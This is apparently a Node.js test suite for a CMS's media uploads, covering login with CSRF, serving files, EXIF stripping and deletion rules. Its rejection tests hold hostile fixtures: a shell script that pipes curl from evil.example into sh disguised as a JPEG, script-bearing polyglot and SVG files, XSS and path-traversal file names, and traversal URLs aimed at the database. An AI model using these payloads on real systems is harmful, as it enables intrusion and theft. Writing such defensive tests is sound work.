// The media feature against the real binary: uploads through the admin
// (login with the form and its CSRF token), the public /media/ route, the
// library page and deletion rules.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import path from 'node:path';
import zlib from 'node:zlib';
import { cpSync, appendFileSync, rmSync, writeFileSync } from 'node:fs';
import { ROOT, SEED, get, run, startDemo, startServer, tempDir, text, request as sharedRequest, cookieValue } from './helpers.mjs';

let srv;
const users = {}; // name -> { cookie, csrf }
const PASSWORD = 'correct horse battery staple 42';

// ---- HTTP with every Set-Cookie kept ----

function request(method, target, opts) {
  return sharedRequest(srv, method, target, opts);
}

const origin = () => `http://${srv.host}:${srv.port}`;

function csrfIn(html) {
  const m = html.match(/name="_csrf" value="([^"]+)"/);
  return m ? m[1] : null;
}

// ---- users and login ----

function addUser(name, role) {
  const r = run(['user', 'add', srv.site, name, '--role', role], { input: `${PASSWORD}\n${PASSWORD}\n` });
  if (r.status !== 0) throw new Error(`user add ${name}: ${r.stderr}`);
}

async function login(name) {
  const page = await request('GET', '/admin/login');
  const pre = cookieValue(page, 'mh_login');
  const token = csrfIn(page.text());
  assert.ok(pre && token, 'login page gives a pre-session cookie and a token');
  const form = new URLSearchParams({ name, password: PASSWORD, _csrf: token }).toString();
  const res = await request('POST', '/admin/login', {
    headers: { Cookie: `mh_login=${pre}`, Origin: origin(), 'Content-Type': 'application/x-www-form-urlencoded' },
    body: Buffer.from(form),
  });
  assert.equal(res.status, 303, `login of ${name}: ${res.text()}`);
  const session = cookieValue(res, 'mh_session');
  assert.ok(session);
  const lib = await request('GET', '/admin/media', { headers: { Cookie: `mh_session=${session}` } });
  assert.equal(lib.status, 200);
  users[name] = { cookie: `mh_session=${session}`, csrf: csrfIn(lib.text()) };
  assert.ok(users[name].csrf);
}

// ---- test files ----

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(buf) {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function png(w, h) {
  const raw = Buffer.alloc((w * 3 + 1) * h);
  for (let y = 0; y < h; y++)
    for (let x = 0; x < w; x++) {
      const o = y * (w * 3 + 1) + 1 + x * 3;
      raw[o] = (x * 7) & 0xff;
      raw[o + 1] = (y * 5) & 0xff;
      raw[o + 2] = ((x + y) * 3) & 0xff;
    }
  const chunk = (type, data) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(td));
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr), chunk('IDAT', zlib.deflateSync(raw)), chunk('IEND', Buffer.alloc(0)),
  ]);
}

// A 64x48 baseline JPEG (libvips, no metadata).
const JPEG = Buffer.from(
  '/9j/2wBDAAoHBwgHBgoICAgLCgoLDhgQDg0NDh0VFhEYIx8lJCIfIiEmKzcvJik0KSEiMEExNDk7Pj4+JS5ESUM8SDc9Pjv/2wBDAQoLCw4NDhwQEBw7KCIoOzs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozs7Ozv/wAARCAAwAEADASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwDxtKnSoEqdKAJkqdKgSp0oAmSpkqFKmSgCdKmSoUqZKAOSSp0qBKnSgCZKnSoEqdKAJkqZKhSpkoAnSpkqFKmSgDkkqdKgSp0oAmSp0qBKnSgCZKmSoUqZKAJ0qZKhSpkoA//Z',
  'base64');

// The JPEG above with an EXIF APP1 segment: GPS latitude 48 deg 51' N and a
// camera model string that must not survive.
function jpegWithGps() {
  const tiff = Buffer.alloc(128);
  tiff.write('II', 0, 'latin1');
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(2, 8); // IFD0: Model, GPS pointer
  const entry = (o, tag, type, count, value) => {
    tiff.writeUInt16LE(tag, o);
    tiff.writeUInt16LE(type, o + 2);
    tiff.writeUInt32LE(count, o + 4);
    tiff.writeUInt32LE(value, o + 8);
  };
  entry(10, 0x0110, 2, 16, 100); // Model -> offset 100
  entry(22, 0x8825, 4, 1, 38); // GPS IFD at 38
  tiff.writeUInt32LE(0, 34);
  tiff.writeUInt16LE(2, 38);
  entry(40, 0x0001, 2, 2, 'N'.charCodeAt(0));
  entry(52, 0x0002, 5, 3, 68);
  tiff.writeUInt32LE(0, 64);
  [48, 1, 51, 1, 0, 1].forEach((v, i) => tiff.writeUInt32LE(v, 68 + 4 * i));
  tiff.write('SecretCamModelX\0', 100, 'latin1');
  const seglen = 2 + 6 + tiff.length;
  const hdr = Buffer.from([0xff, 0xe1, seglen >> 8, seglen & 0xff, 0x45, 0x78, 0x69, 0x66, 0, 0]);
  return Buffer.concat([JPEG.subarray(0, 2), hdr, tiff, JPEG.subarray(2)]);
}

const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n' +
  'trailer<</Root 1 0 R>>\n%%EOF\n');

function multipart(fields, files) {
  const boundary = `----mhtest${crypto.randomBytes(8).toString('hex')}`;
  const parts = [];
  for (const [k, v] of Object.entries(fields))
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`));
  for (const f of files) {
    parts.push(Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${f.field || 'file'}"; filename="`),
      Buffer.isBuffer(f.filename) ? f.filename : Buffer.from(f.filename),
      Buffer.from(`"\r\nContent-Type: ${f.type || 'image/jpeg'}\r\n\r\n`),
      f.data, Buffer.from('\r\n'),
    ]));
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), type: `multipart/form-data; boundary=${boundary}` };
}

// POST a file as user (null: nobody); csrf false leaves the token out.
function upload(user, data, filename, { csrf = true, json = false, type } = {}) {
  const u = user ? users[user] : null;
  const fields = u && csrf ? { _csrf: u.csrf } : {};
  const mp = multipart(fields, [{ filename, data, type }]);
  const headers = { 'Content-Type': mp.type, Origin: origin() };
  if (u) headers.Cookie = u.cookie;
  if (json) headers.Accept = 'application/json';
  return request('POST', '/admin/media', { headers, body: mp.body });
}

async function uploadOk(user, data, filename) {
  const res = await upload(user, data, filename, { json: true });
  assert.equal(res.status, 201, res.text());
  return JSON.parse(res.text());
}

function db(sql) {
  const r = spawnSync('sqlite3', [path.join(srv.site, 'site.db'), sql], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(r.stderr);
  return r.stdout.trim();
}

const mediaCount = () => Number(db('SELECT count(*) FROM media'));

before(async () => {
  srv = await startDemo();
  addUser('root', 'admin');
  addUser('carol', 'contributor');
  addUser('eddie', 'editor');
  await login('root');
  await login('carol');
  await login('eddie');
});

after(async () => {
  if (srv) await srv.stop();
});

// ---- tests ----

test('an uploaded PNG is stored under a random name and served as an image', async () => {
  const m = await uploadOk('root', png(900, 500), 'Harbour view.png');
  assert.match(m.url, /^\/media\/[0-9a-f]{2}\/[0-9a-f]{30}\.png$/);
  assert.equal(m.mime, 'image/png');
  assert.equal(m.width, 900);
  assert.equal(m.name, 'Harbour view.png');
  assert.match(m.srcset, /-320\.webp 320w, .*-640\.webp 640w, .*-900\.webp 900w$/);

  const res = await request('GET', m.url);
  assert.equal(res.status, 200);
  assert.equal(res.headers['content-type'], 'image/png');
  assert.equal(res.headers['x-content-type-options'], 'nosniff');
  assert.match(res.headers['cache-control'], /max-age=31536000/);
  assert.equal(res.headers['content-disposition'], undefined);
  assert.ok(res.headers.etag);
  assert.deepEqual(res.body.subarray(0, 8), png(1, 1).subarray(0, 8));

  const again = await request('GET', m.url, { headers: { 'If-None-Match': res.headers.etag } });
  assert.equal(again.status, 304);
  const head = await request('HEAD', m.url);
  assert.equal(head.status, 200);
  assert.equal(head.headers['content-length'], String(res.body.length));
  assert.equal(head.body.length, 0);

  const variant = m.url.replace(/\.png$/, '-640.webp');
  const v = await request('GET', variant);
  assert.equal(v.status, 200);
  assert.equal(v.headers['content-type'], 'image/webp');
  assert.equal(v.body.subarray(8, 12).toString('latin1'), 'WEBP');
  // a width that was not produced
  assert.equal((await request('GET', m.url.replace(/\.png$/, '-500.webp'))).status, 404);

  // the upload is in the audit log and in the table with its uploader
  assert.match(db(`SELECT action FROM audit_log WHERE object = 'media:${m.id}'`), /media\.upload/);
  assert.equal(db(`SELECT u.name FROM media m JOIN users u ON u.id = m.user_id WHERE m.id = ${m.id}`), 'root');
});

test('the form upload redirects to the file page; the library lists and searches it', async () => {
  const res = await upload('root', JPEG, 'Quarterly-chart.jpg');
  assert.equal(res.status, 303);
  assert.match(res.headers.location, /^\/admin\/media\/\d+\?msg=media_uploaded$/);
  const page = await request('GET', res.headers.location, { headers: { Cookie: users.root.cookie } });
  assert.equal(page.status, 200);
  assert.match(page.text(), /Quarterly-chart\.jpg/);

  const lib = await request('GET', '/admin/media?q=quarterly', { headers: { Cookie: users.root.cookie } });
  assert.equal(lib.status, 200);
  const html = lib.text();
  assert.match(html, /Quarterly-chart\.jpg/);
  assert.doesNotMatch(html, /Harbour view\.png/);
  assert.match(html, /data-url="\/media\/[0-9a-f]{2}\/[0-9a-f]{30}\.jpg"/);
  assert.match(html, /srcset="\/media\/[^"]+-64\.webp 64w"/);

  const docs = await request('GET', '/admin/media?kind=document', { headers: { Cookie: users.root.cookie } });
  assert.doesNotMatch(docs.text(), /Quarterly-chart\.jpg/);

  // the editor's image dialog asks for JSON
  const json = await request('GET', '/admin/media?kind=image&q=chart', {
    headers: { Cookie: users.root.cookie, Accept: 'application/json' },
  });
  assert.equal(json.status, 200);
  assert.match(json.headers['content-type'], /^application\/json/);
  const list = JSON.parse(json.text());
  assert.equal(list.total, 1);
  assert.equal(list.items[0].name, 'Quarterly-chart.jpg');
  assert.equal(list.items[0].mime, 'image/jpeg');
  assert.match(list.items[0].thumb, /^\/media\/[0-9a-f]{2}\/[0-9a-f]{30}-64\.webp$/);
});

test('EXIF GPS and camera data are removed from the served image', async () => {
  const src = jpegWithGps();
  assert.ok(src.includes(Buffer.from('SecretCamModelX')));
  const m = await uploadOk('root', src, 'gps.jpg');
  const res = await request('GET', m.url);
  assert.equal(res.status, 200);
  assert.equal(res.headers['content-type'], 'image/jpeg');
  assert.ok(!res.body.includes(Buffer.from('Exif\0\0', 'latin1')), 'no EXIF segment');
  assert.ok(!res.body.includes(Buffer.from('SecretCamModelX')));
});

test('disguised, polyglot and SVG files are refused and nothing is stored', async () => {
  const before = mediaCount();
  const files = fsCount();
  const shell = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
  let res = await upload('root', shell, 'holiday.jpg');
  assert.equal(res.status, 415);
  assert.match(res.text(), /not accepted/);

  const poly = Buffer.concat([JPEG, Buffer.from('<script>alert(document.cookie)</script>')]);
  res = await upload('root', poly, 'poly.jpg');
  assert.equal(res.status, 415);

  const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
  res = await upload('root', svg, 'logo.svg', { type: 'image/svg+xml' });
  assert.equal(res.status, 415);
  res = await upload('root', svg, 'logo.png', { json: true });
  assert.equal(res.status, 415);
  assert.ok(['svg', 'polyglot'].includes(JSON.parse(res.text()).error));

  res = await upload('root', Buffer.alloc(0), 'empty.png');
  assert.equal(res.status, 422);

  assert.equal(mediaCount(), before);
  assert.equal(fsCount(), files);
  assert.match(db("SELECT count(*) FROM audit_log WHERE action = 'media.reject'"), /^[4-9]|\d\d/);
});

function fsCount() {
  const r = spawnSync('find', [path.join(srv.site, 'media'), '-type', 'f'], { encoding: 'utf8' });
  return r.stdout.split('\n').filter(Boolean).length;
}

test('hostile file names are metadata only', async () => {
  const m = await uploadOk('root', png(20, 20), '../../../../etc/passwd.png');
  assert.match(m.url, /^\/media\/[0-9a-f]{2}\/[0-9a-f]{30}\.png$/);
  assert.equal(db(`SELECT original_name FROM media WHERE id = ${m.id}`), '../../../../etc/passwd.png');
  assert.equal(db("SELECT count(*) FROM media WHERE stored_name LIKE '%passwd%' OR stored_name LIKE '%..%'"), '0');

  const win = await uploadOk('root', png(10, 10), '..\\..\\Windows\\System32\\evil.png');
  assert.match(win.url, /^\/media\/[0-9a-f]{2}\/[0-9a-f]{30}\.png$/);
  assert.equal(win.name, '..\\..\\Windows\\System32\\evil.png');

  // a NUL inside the header's file name: either refused (the multipart
  // parser then sees no file) or stored under a generated name
  const before = mediaCount();
  const withNul = Buffer.from('a\0b/../c.png', 'latin1');
  const res = await upload('root', png(10, 10), withNul, { json: true });
  assert.ok([201, 400, 422].includes(res.status), `status ${res.status} ${res.text()}`);
  if (res.status === 201) {
    const j = JSON.parse(res.text());
    assert.match(j.url, /^\/media\/[0-9a-f]{2}\/[0-9a-f]{30}\.png$/);
    assert.ok(!j.name.includes('\0'));
  } else {
    assert.equal(mediaCount(), before);
  }

  // the page shows the name escaped
  const xss = await uploadOk('root', png(10, 10), '<img src=x onerror=alert(1)>.png');
  const page = await request('GET', `/admin/media/${xss.id}`, { headers: { Cookie: users.root.cookie } });
  assert.ok(!page.text().includes('<img src=x onerror'));
  assert.ok(page.text().includes('&lt;img src=x onerror=alert(1)&gt;.png'));
});

test('oversize uploads get 413 and are not stored', async () => {
  const before = mediaCount();
  // larger than the route's body limit: refused before the body is read
  const huge = await request('POST', '/admin/media', {
    headers: {
      Cookie: users.root.cookie, Origin: origin(),
      'Content-Type': 'multipart/form-data; boundary=x', 'Content-Length': String(64 << 20),
    },
    body: Buffer.alloc(0),
  });
  assert.equal(huge.status, 413);
  // within the body limit, but the file is larger than 20 MiB
  const big = Buffer.alloc((20 << 20) + 4096, 0x41);
  png(1, 1).copy(big);
  const res = await upload('root', big, 'big.png');
  assert.equal(res.status, 413);
  assert.equal(mediaCount(), before);
});

test('documents are served as attachments with their recorded type', async () => {
  const m = await uploadOk('root', PDF, 'Annual report 2024 年报.pdf');
  assert.equal(m.mime, 'application/pdf');
  const res = await request('GET', m.url);
  assert.equal(res.status, 200);
  assert.equal(res.headers['content-type'], 'application/pdf');
  assert.equal(res.headers['x-content-type-options'], 'nosniff');
  assert.match(res.headers['content-disposition'], /^attachment; filename="Annual report 2024 __\.pdf"; filename\*=UTF-8''Annual%20report%202024%20%E5%B9%B4%E6%8A%A5\.pdf$/);
  assert.deepEqual(res.body, PDF);
  // no variants for documents
  assert.equal((await request('GET', m.url.replace(/\.pdf$/, '-320.webp'))).status, 404);
});

test('only recorded names can be fetched under /media/', async () => {
  const m = await uploadOk('root', png(10, 10), 'x.png');
  const hex = m.url.slice('/media/'.length);
  const tries = {
    '/media/../site.db': [400, 404],
    '/media/%2e%2e/site.db': [400, 404],
    '/media/..%2fsite.db': [400, 404],
    '/media/site.db': [404],
    '/media/': [404],
    '/media/ab/0123456789abcdef0123456789abcd.jpg': [404],
    [`/media/${hex.toUpperCase()}`]: [404],
    [`/media/${hex}.png`]: [404],
    [`/media/${hex}/`]: [400, 404],
    [`/media/${hex.replace('.png', '.jpg')}`]: [404],
    [`/media/${hex.replace('.png', '-0640.webp')}`]: [404],
    [`/media/${hex}%00`]: [400, 404],
  };
  for (const [target, ok] of Object.entries(tries)) {
    const res = await request('GET', target);
    assert.ok(ok.includes(res.status), `${target}: ${res.status}`);
    assert.ok(!res.body.includes(Buffer.from('SQLite format 3')), target);
  }
});

test('uploads need a session, the media permission and the CSRF token', async () => {
  const before = mediaCount();
  let res = await upload(null, png(10, 10), 'anon.png');
  assert.equal(res.status, 403);
  res = await upload('root', png(10, 10), 'nocsrf.png', { csrf: false });
  assert.equal(res.status, 403);
  // a token from another session does not do
  const mp = multipart({ _csrf: users.carol.csrf }, [{ filename: 'mixed.png', data: png(10, 10) }]);
  res = await request('POST', '/admin/media', {
    headers: { 'Content-Type': mp.type, Origin: origin(), Cookie: users.root.cookie }, body: mp.body,
  });
  assert.equal(res.status, 403);
  // a foreign Origin
  const mp2 = multipart({ _csrf: users.root.csrf }, [{ filename: 'cross.png', data: png(10, 10) }]);
  res = await request('POST', '/admin/media', {
    headers: { 'Content-Type': mp2.type, Origin: 'http://evil.example', Cookie: users.root.cookie }, body: mp2.body,
  });
  assert.equal(res.status, 403);
  assert.equal(mediaCount(), before);
  // the library itself needs a session
  res = await request('GET', '/admin/media');
  assert.ok([303, 403].includes(res.status));
});

test('contributors may upload and delete their own unused files, not others\'', async () => {
  const mine = await uploadOk('carol', png(30, 30), 'carol.png');
  const theirs = await uploadOk('root', png(30, 30), 'root.png');
  const del = (user, id, extra = {}) => request('POST', `/admin/media/${id}/delete`, {
    headers: { Cookie: users[user].cookie, Origin: origin(), 'Content-Type': 'application/x-www-form-urlencoded' },
    body: Buffer.from(new URLSearchParams({ _csrf: users[user].csrf, ...extra }).toString()),
  });
  let res = await del('carol', theirs.id);
  assert.equal(res.status, 403);
  assert.equal((await request('GET', theirs.url)).status, 200);
  res = await del('carol', mine.id);
  assert.equal(res.status, 303);
  assert.equal((await request('GET', mine.url)).status, 404);
  assert.equal(db(`SELECT count(*) FROM media WHERE id = ${mine.id}`), '0');
  // an editor may delete anyone's unused file
  res = await del('eddie', theirs.id);
  assert.equal(res.status, 303);
  assert.equal((await request('GET', theirs.url)).status, 404);
  // unknown id, and no CSRF token
  assert.equal((await del('eddie', 999999)).status, 404);
  const other = await uploadOk('root', png(30, 30), 'other.png');
  res = await request('POST', `/admin/media/${other.id}/delete`, {
    headers: { Cookie: users.root.cookie, Origin: origin(), 'Content-Type': 'application/x-www-form-urlencoded' },
    body: Buffer.from(''),
  });
  assert.equal(res.status, 403);
  assert.equal((await request('GET', other.url)).status, 200);
});

test('a file in use cannot be deleted; an admin may delete it anyway, with a warning in the audit log', async () => {
  const cover = await uploadOk('root', png(400, 300), 'cover.png');
  const inBody = await uploadOk('root', png(400, 300), 'inline.png');
  const stored = cover.url.slice('/media/'.length);
  const id1 = db('SELECT id FROM entries ORDER BY id LIMIT 1');
  const id2 = db('SELECT id FROM entries ORDER BY id LIMIT 1 OFFSET 1');
  db(`UPDATE entries SET cover = '${stored}' WHERE id = ${id1}`);
  db(`UPDATE entries SET body_html = body_html || '<p><img src="${inBody.url.replace('.png', '-320.webp')}"></p>' WHERE id = ${id2}`);
  const title1 = db(`SELECT title FROM entries WHERE id = ${id1}`);

  const del = (user, id, extra = {}) => request('POST', `/admin/media/${id}/delete`, {
    headers: { Cookie: users[user].cookie, Origin: origin(), 'Content-Type': 'application/x-www-form-urlencoded' },
    body: Buffer.from(new URLSearchParams({ _csrf: users[user].csrf, ...extra }).toString()),
  });
  let res = await del('root', cover.id);
  assert.equal(res.status, 409);
  assert.match(res.text(), /still in use/);
  assert.ok(res.text().includes(`/admin/entries/${id1}`));
  assert.ok(res.text().includes(title1.replace(/&/g, '&amp;')));
  assert.equal((await request('GET', cover.url)).status, 200);

  res = await del('root', inBody.id);
  assert.equal(res.status, 409);
  assert.ok(res.text().includes(`/admin/entries/${id2}`));

  // the detail page says where it is used and offers "delete anyway" to admins only
  const page = await request('GET', `/admin/media/${cover.id}`, { headers: { Cookie: users.root.cookie } });
  assert.match(page.text(), /name="force" value="1"/);
  const pageEd = await request('GET', `/admin/media/${cover.id}`, { headers: { Cookie: users.eddie.cookie } });
  assert.doesNotMatch(pageEd.text(), /name="force"/);

  // an editor cannot force
  res = await del('eddie', cover.id, { force: '1' });
  assert.equal(res.status, 409);
  assert.equal((await request('GET', cover.url)).status, 200);

  res = await del('root', cover.id, { force: '1' });
  assert.equal(res.status, 303);
  assert.match(res.headers.location, /msg=media_deleted_in_use/);
  assert.equal((await request('GET', cover.url)).status, 404);
  const audit = db(`SELECT action || ' ' || detail FROM audit_log WHERE action LIKE 'media.delete%' AND instr(detail, '${stored}') > 0`);
  assert.match(audit, /^media\.delete_in_use WARNING: /);
  assert.ok(audit.includes(`entry:${id1} cover`));
});

test('templates get cover_url and cover_srcset for a media cover', async () => {
  const m = await uploadOk('root', png(1500, 600), 'wide cover.png');
  const stored = m.url.slice('/media/'.length);
  db(`UPDATE entries SET cover = '${stored}' WHERE slug = '${SEED.split('/').pop().replace('.html', '')}'`);
  const theme = path.join(tempDir('mh-theme-'), 'theme');
  cpSync(path.join(ROOT, 'themes/default'), theme, { recursive: true });
  appendFileSync(path.join(theme, 'templates/entry.mustache'),
    '\n<img class="cover-test" src="{{entry.cover_url}}" srcset="{{entry.cover_srcset}}">\n');
  const other = await startServer(srv.site, ['--theme', theme, '--no-page-cache']);
  try {
    const res = await get(other, SEED);
    assert.equal(res.status, 200);
    const base = m.url.replace(/\.png$/, '');
    assert.ok(text(res).includes(
      `<img class="cover-test" src="${m.url}" srcset="${base}-320.webp 320w, ${base}-640.webp 640w, ${base}-1280.webp 1280w">`),
      text(res).match(/<img class="cover-test"[^>]*>/)?.[0]);
  } finally {
    await other.stop();
    rmSync(path.dirname(theme), { recursive: true, force: true });
  }
});

test('image variants are made at the widths the theme declares', async () => {
  const theme = path.join(tempDir('mh-theme-'), 'theme');
  cpSync(path.join(ROOT, 'themes/default'), theme, { recursive: true });
  writeFileSync(path.join(theme, 'theme.json'), JSON.stringify({ name: 'narrow', image_widths: [480, 200, 480] }));
  const main = srv;
  const other = await startServer(srv.site, ['--theme', theme]);
  try {
    srv = other; // the sessions live in the shared database
    const m = await uploadOk('root', png(900, 500), 'declared widths.png');
    const base = m.url.replace(/\.png$/, '');
    assert.equal(m.srcset, `${base}-200.webp 200w, ${base}-480.webp 480w`);
    assert.equal((await request('GET', `${base}-480.webp`)).status, 200);
    assert.equal((await request('GET', `${base}-640.webp`)).status, 404);
  } finally {
    srv = main;
    await other.stop();
  }
  // a malformed declaration stops the server with a message naming the file
  writeFileSync(path.join(theme, 'theme.json'), '{"image_widths": [5]}');
  const bad = run(['serve', srv.site, '--theme', theme, '--listen', '127.0.0.1:0']);
  assert.notEqual(bad.status, 0);
  assert.match(bad.stderr, /theme\.json/);
  rmSync(path.dirname(theme), { recursive: true, force: true });
});
